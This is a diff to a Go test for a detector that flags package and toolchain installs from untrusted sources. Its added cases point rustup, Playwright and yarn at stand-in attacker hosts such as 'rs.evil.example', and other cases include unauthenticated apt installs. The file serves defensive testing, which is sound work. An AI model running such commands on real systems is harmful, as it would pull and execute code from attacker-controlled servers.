@@ -62,6 +62,10 @@ func TestPackageSources(t *testing.T) {
 		{cmd: "NODE_EXTRA_CA_CERTS=./certs/dev.pem npm test", notWant: []string{"install NODE_EXTRA_CA_CERTS"}},
 		{cmd: "PIP_CONFIG_FILE=/tmp/pip.conf pip install x", want: []string{src("config /tmp/pip.conf")}},
 		{cmd: "PIP_CONFIG_FILE=./pip.conf pip install x", notWant: []string{"install config"}},
+		{cmd: "RUSTUP_DIST_SERVER=https://rs.evil.example rustup update", want: []string{src("https://rs.evil.example")}},
+		{cmd: "PLAYWRIGHT_DOWNLOAD_HOST=https://cdn.evil.example npx playwright install", want: []string{src("https://cdn.evil.example")}},
+		{cmd: "yarn set version https://y.evil.example/yarn.cjs", want: []string{src("https://y.evil.example/yarn.cjs")}},
+		{cmd: "yarn set version stable", notWant: []string{"install stable"}},
 		{cmd: "apt-get install -y --allow-unauthenticated foo", want: []string{off("--allow-unauthenticated")}},
 		// ordinary work
 		{cmd: "npm install lodash", notWant: []string{"install lodash " + detailPackageSource, "install lodash " + detailVerificationOff}},
